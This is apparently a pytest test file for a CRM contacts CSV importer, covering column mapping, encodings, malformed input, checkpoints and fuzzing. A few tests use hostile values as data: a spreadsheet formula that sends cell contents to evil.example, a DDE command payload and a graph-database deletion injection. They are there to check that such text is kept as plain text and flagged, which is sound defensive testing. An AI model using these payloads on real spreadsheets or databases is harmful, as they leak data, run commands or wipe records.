"""CRM contacts connector and the shared file helpers: mapping, bad input, checkpoints, fuzzing."""

from __future__ import annotations

import csv
import io
import json
import tempfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tellgraph.errors import InvalidInput
from tellgraph.extractors.base import Connector
from tellgraph.extractors.contacts import (
    ContactsConnector,
    decode_bytes,
    extract_emails,
    load_mapping,
    looks_like_formula,
    parse_datetime,
)
from tellgraph.schema.model import Activity, Role
from tellgraph.schema.records import AttendanceRecord, CheckpointMark, ContactRecord, Rejected, SourceRecord

ALLOWED = (Activity, ContactRecord, AttendanceRecord, Rejected, CheckpointMark)


def read(
    path: Path, mapping: dict[str, str] | None = None, checkpoints: dict[str, str] | None = None
) -> list[SourceRecord]:
    return list(ContactsConnector(path=path, mapping=mapping).read(checkpoints=checkpoints or {}))


def contacts(records: list[SourceRecord]) -> list[ContactRecord]:
    return [r for r in records if isinstance(r, ContactRecord)]


def rejected(records: list[SourceRecord]) -> list[Rejected]:
    return [r for r in records if isinstance(r, Rejected)]


def marks(records: list[SourceRecord]) -> list[CheckpointMark]:
    return [r for r in records if isinstance(r, CheckpointMark)]


def write(tmp_path: Path, content: str | bytes, name: str = "crm.csv") -> Path:
    path = tmp_path / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8", newline="")
    return path


# --- fixtures -------------------------------------------------------------------------


def test_auto_detected_headers(fixtures_dir: Path) -> None:
    records = read(fixtures_dir / "contacts" / "hubspot-export.csv")
    people = contacts(records)
    assert len(people) == 5
    assert len(rejected(records)) == 1
    assert len(marks(records)) == 1

    priya = people[0]
    assert priya.name == "Priya Raman"
    assert priya.emails == ["priya.raman@northwind.example", "p.raman@example.com", "priya@personal.example"]
    assert priya.company_name == "Northwind Traders"
    assert priya.company_domain == "northwind.example"
    assert priya.title == "Head of Procurement"
    assert priya.phones == ["+15550100142"]
    assert priya.linkedin_url == "https://www.linkedin.com/in/priya-raman-7x9y2k"
    assert priya.handles == ["linkedin:https://www.linkedin.com/in/priya-raman-7x9y2k"]
    assert priya.connected_to is not None
    assert priya.connected_to.role is Role.CONNECTION
    assert priya.connected_to.email == "jane.example@acme.example"
    assert priya.metadata["crm_notes"].startswith("Met at the spring summit")
    assert "\n" in priya.metadata["crm_notes"]  # a multi-line quoted cell stays one row
    assert priya.metadata["last_contacted"] == "2024-05-20T00:00:00+00:00"

    tomas = people[1]
    assert tomas.emails == ["tomas.olsen@globex.example"]
    assert tomas.metadata["last_contacted"] == "2024-05-22T00:00:00+00:00"


def test_invalid_email_is_dropped_not_rejected(fixtures_dir: Path) -> None:
    people = contacts(read(fixtures_dir / "contacts" / "hubspot-export.csv"))
    hal = next(p for p in people if p.name == "Hal Bright")
    assert hal.emails == []
    assert "invalid email 'hal.bright(at)acme.example' dropped" in hal.metadata["warnings"]


def test_row_without_name_or_valid_email_is_rejected(fixtures_dir: Path) -> None:
    (bad,) = rejected(read(fixtures_dir / "contacts" / "hubspot-export.csv"))
    assert bad.source_key == "hubspot-export.csv:line 6"
    assert "no name and no valid e-mail" in bad.reason
    assert "not-an-email" in bad.reason


def test_formula_and_injection_strings_are_plain_data(fixtures_dir: Path) -> None:
    people = contacts(read(fixtures_dir / "contacts" / "hubspot-export.csv"))
    eve = next(p for p in people if p.emails == ["eve@example.net"])
    assert eve.name == '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert eve.company_name == "=cmd|' /C calc'!A0"
    assert eve.title == "+SUM(1;2)"
    assert (
        "formula-like text kept as plain text in Full Name, Organization, Job Title, Notes"
        in (eve.metadata["warnings"])
    )
    bobby = next(p for p in people if p.emails == ["bobby.tables@northwind.example"])
    assert bobby.name == "Robert'); MATCH (n) DETACH DELETE n; //"
    assert bobby.connected_to is None
    assert "not an e-mail address" in bobby.metadata["warnings"]


def test_json_mapping_semicolons_and_cp1252(fixtures_dir: Path) -> None:
    mapping = load_mapping(fixtures_dir / "contacts" / "legacy-crm-mapping.json")
    records = read(fixtures_dir / "contacts" / "legacy-crm.csv", mapping=mapping)
    people = contacts(records)
    assert [p.name for p in people] == ["Jürgen Müller", "Zoë Faure"]
    jurgen = people[0]
    assert jurgen.emails == ["j.mueller@example.de"]
    assert jurgen.company_name == "Müller & Söhne GmbH"
    assert jurgen.title == "Geschäftsführer"
    assert jurgen.phones == ["+49301234567"]
    assert jurgen.connected_to is not None
    assert jurgen.connected_to.email == "jane.example@acme.example"
    assert jurgen.metadata["last_contacted"] == "2024-03-15T00:00:00+00:00"
    assert "€" in jurgen.metadata["crm_notes"]
    assert "cp1252" in jurgen.metadata["warnings"]


def test_without_mapping_odd_headers_are_not_guessed(fixtures_dir: Path) -> None:
    records = read(fixtures_dir / "contacts" / "legacy-crm.csv")
    assert not contacts(records)
    assert "pass a column mapping" in rejected(records)[0].reason


def test_explicit_mapping_wins_over_defaults(tmp_path: Path) -> None:
    path = write(tmp_path, "Name,Display,Email\nJ. Ex,Jane Example,jane@example.com\n")
    (person,) = contacts(read(path, mapping={"Display": "name"}))
    assert person.name == "Jane Example"


def test_ignore_in_mapping_skips_a_column(tmp_path: Path) -> None:
    path = write(tmp_path, "Name,Email,Phone\nJane,jane@example.com,+1 555 0100\n")
    (person,) = contacts(read(path, mapping={"Phone": "ignore"}))
    assert person.phones == []


def test_unknown_target_field_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match="unknown field"):
        ContactsConnector(path=tmp_path, mapping={"Name": "nickname"})


@pytest.mark.parametrize("content", ["not json", "[1, 2]", '{"Name": 3}'])
def test_bad_mapping_files(tmp_path: Path, content: str) -> None:
    path = tmp_path / "mapping.json"
    path.write_text(content)
    with pytest.raises(InvalidInput):
        load_mapping(path)


def test_missing_mapping_file(tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match="cannot read"):
        load_mapping(tmp_path / "nope.json")


def test_first_and_last_name_columns_and_tab_delimiter(tmp_path: Path) -> None:
    path = write(tmp_path, "First Name\tLast Name\tE-mail Address\nJane\tExample\tjane@example.com\n", "crm.tsv")
    (person,) = contacts(read(path))
    assert person.name == "Jane Example"
    assert person.emails == ["jane@example.com"]


def test_connector_protocol(tmp_path: Path) -> None:
    connector = ContactsConnector(path=tmp_path)
    assert isinstance(connector, Connector)
    assert connector.kind == "contacts"
    assert connector.location == str(tmp_path.resolve())


# --- bad input ------------------------------------------------------------------------


def test_empty_and_whitespace_files(tmp_path: Path) -> None:
    assert [r.reason for r in rejected(read(write(tmp_path, "")))] == ["empty file"]
    assert [r.reason for r in rejected(read(write(tmp_path, " \n\r\n", "b.csv")))] == ["empty file"]
    assert [r.reason for r in rejected(read(write(tmp_path, b"\xef\xbb\xbf", "c.csv")))] == ["empty file"]


def test_binary_file(tmp_path: Path) -> None:
    records = read(write(tmp_path, bytes(range(256)) * 4))
    assert "binary" in rejected(records)[0].reason
    assert len(marks(records)) == 1


def test_utf16_excel_export(tmp_path: Path) -> None:
    body = "Name\tEmail\nZoë Faure\tzoe@example.fr\n"
    (person,) = contacts(read(write(tmp_path, body.encode("utf-16"), "unicode.txt")))
    assert person.name == "Zoë Faure"


def test_bom_header_is_clean(tmp_path: Path) -> None:
    path = write(tmp_path, "\ufeffEmail,Name\njane@example.com,Jane\n".encode())
    (person,) = contacts(read(path))
    assert person.name == "Jane"
    assert person.emails == ["jane@example.com"]


def test_broken_quoting_keeps_good_rows(tmp_path: Path) -> None:
    body = 'Name,Email,Company,Notes\nAnn,ann@example.com,"Acme,ok\nBob,bob@example.com,Globex,fine\n'
    records = read(write(tmp_path, body))
    assert [p.name for p in contacts(records)] == ["Bob"]
    assert "line 2" in rejected(records)[0].reason


def test_huge_notes_field(tmp_path: Path) -> None:
    notes = "x" * 300_000
    (person,) = contacts(read(write(tmp_path, f"Name,Email,Notes\nJane,jane@example.com,{notes}\n")))
    assert len(person.metadata["crm_notes"]) == 2000
    assert "Notes truncated (300000 characters)" in person.metadata["warnings"]


def test_field_over_the_csv_limit_is_rejected_and_reading_continues(tmp_path: Path) -> None:
    huge = "y" * 1_200_000
    body = f"Name,Email,Notes\nJane,jane@example.com,{huge}\nAnn,ann@example.com,short\n"
    records = read(write(tmp_path, body))
    assert [p.name for p in contacts(records)] == ["Ann"]
    assert "field larger than field limit" in rejected(records)[0].reason


def test_missing_folder_files(tmp_path: Path) -> None:
    (tmp_path / "notes.md").write_text("hello")
    (reason,) = [r.reason for r in rejected(read(tmp_path))]
    assert "no .csv" in reason


def test_folder_skips_hidden_files_and_is_sorted(tmp_path: Path) -> None:
    write(tmp_path, "Name\nBee\n", "b.csv")
    write(tmp_path, "Name\nAy\n", "a.csv")
    write(tmp_path, b"\x00\x01garbage", "._a.csv")
    records = read(tmp_path)
    assert [m.stream for m in marks(records)] == ["a.csv", "b.csv"]
    assert [p.name for p in contacts(records)] == ["Ay", "Bee"]


# --- checkpoints ----------------------------------------------------------------------


def test_checkpoints_resume_rows_and_skip_done_files(tmp_path: Path) -> None:
    rows = "".join(f"Person {i},p{i}@example.com\n" for i in range(1200))
    path = write(tmp_path, "Name,Email\n" + rows)
    records = read(path)
    assert [m.cursor.split("@")[0] for m in marks(records)] == ["1000", "done"]
    resumed = read(path, checkpoints={"crm.csv": marks(records)[0].cursor})
    assert len(contacts(resumed)) == 200
    assert read(path, checkpoints={"crm.csv": marks(records)[-1].cursor}) == []
    # A cursor for other content (the file was replaced) means: read it all again.
    assert len(contacts(read(path, checkpoints={"crm.csv": "1000@0000000000000000"}))) == 1200


# --- helpers --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("15 Mar 2023", datetime(2023, 3, 15, tzinfo=UTC)),
        ("1/8/18, 6:14 PM", datetime(2018, 1, 8, 18, 14, tzinfo=UTC)),
        ("2024-05-01T14:00:00+02:00", datetime(2024, 5, 1, 12, 0, tzinfo=UTC)),
        ("March 5, 2024 12:30 AM", datetime(2024, 3, 5, 0, 30, tzinfo=UTC)),
        ("15.03.2023", datetime(2023, 3, 15, tzinfo=UTC)),
        ("31 Feb 2023", None),
        ("last week", None),
    ],
)
def test_parse_datetime(text: str, expected: datetime | None) -> None:
    assert parse_datetime(text) == expected


def test_extract_emails() -> None:
    assert extract_emails("Jane <JANE@Example.com>; bob@example.org, bad@") == (
        ["jane@example.com", "bob@example.org"],
        ["bad@"],
    )
    assert extract_emails("n/a") == ([], ["n/a"])
    assert extract_emails("") == ([], [])


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("=cmd|' /C calc'!A0", True),
        ("@SUM(A1)", True),
        ("+1 555 0100", False),
        ("-3", False),
        ("Acme", False),
    ],
)
def test_looks_like_formula(value: str, flagged: bool) -> None:
    assert looks_like_formula(value) is flagged


def test_decode_fallbacks() -> None:
    assert decode_bytes("café".encode()) == ("café", "utf-8")
    assert decode_bytes("café".encode("cp1252")) == ("café", "cp1252")
    assert decode_bytes(b"\x81\x8d") == ("\x81\x8d", "latin-1")


# --- fuzzing --------------------------------------------------------------------------


def _fuzz(data: bytes, mapping: dict[str, str] | None = None) -> list[SourceRecord]:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "crm.csv"
        path.write_bytes(data)
        return read(path, mapping=mapping)


@settings(max_examples=75, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2000))
def test_random_bytes_never_raise(data: bytes) -> None:
    assert all(isinstance(r, ALLOWED) for r in _fuzz(data))


@settings(max_examples=75, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=2000))
def test_random_text_never_raises(text: str) -> None:
    assert all(isinstance(r, ALLOWED) for r in _fuzz(text.encode("utf-8", "surrogatepass")))


HEADER = [
    "Full Name",
    "E-mail",
    "Other E-mails",
    "Organization",
    "Job Title",
    "Phone Number",
    "Website",
    "LinkedIn",
    "Owner",
    "Last Contacted",
    "Notes",
]


@settings(max_examples=75, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.lists(st.text(max_size=40), max_size=12), max_size=20))
def test_random_rows_under_a_real_header_never_raise(rows: list[list[str]]) -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(HEADER)
    writer.writerows(rows)
    records = _fuzz(buffer.getvalue().encode("utf-8", "surrogatepass"))
    assert all(isinstance(r, ALLOWED) for r in records)
    assert isinstance(records[-1], CheckpointMark)


def test_mapping_json_round_trip(tmp_path: Path) -> None:
    path = tmp_path / "m.json"
    path.write_text(json.dumps({"Client": "name"}))
    assert load_mapping(path) == {"Client": "name"}
